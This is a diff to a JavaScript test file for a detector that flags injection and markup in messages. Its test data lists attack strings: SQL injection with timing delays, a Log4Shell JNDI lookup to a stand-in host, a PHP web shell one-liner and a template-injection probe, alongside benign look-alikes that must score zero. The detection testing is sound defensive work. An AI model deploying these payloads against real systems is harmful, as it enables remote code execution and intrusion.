@@ -211,6 +211,7 @@ describe('injection and markup signal', () => {
     "1' AND SLEEP(5)#",
     "'; WAITFOR DELAY '0:0:5'--",
     'SELECT * FROM information_schema.tables',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload, `${...}` included, is the text under test
     '${jndi:ldap://x.example/a}',
     '<?php system($_GET["c"]); ?>',
     '{{7*7}}',
@@ -234,6 +235,7 @@ describe('injection and markup signal', () => {
       'We are a JavaScript agency; the trade union selected us.',
       'Please select an option or call me; 1 = yes',
       'the onion = fine, onboard = done',
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: a harmless message with a literal `${...}` that must not score
       'My son loves {{handlebars}} templates and ${money}',
     ]) {
       assert.equal(await scoreOf(message), 0, message);
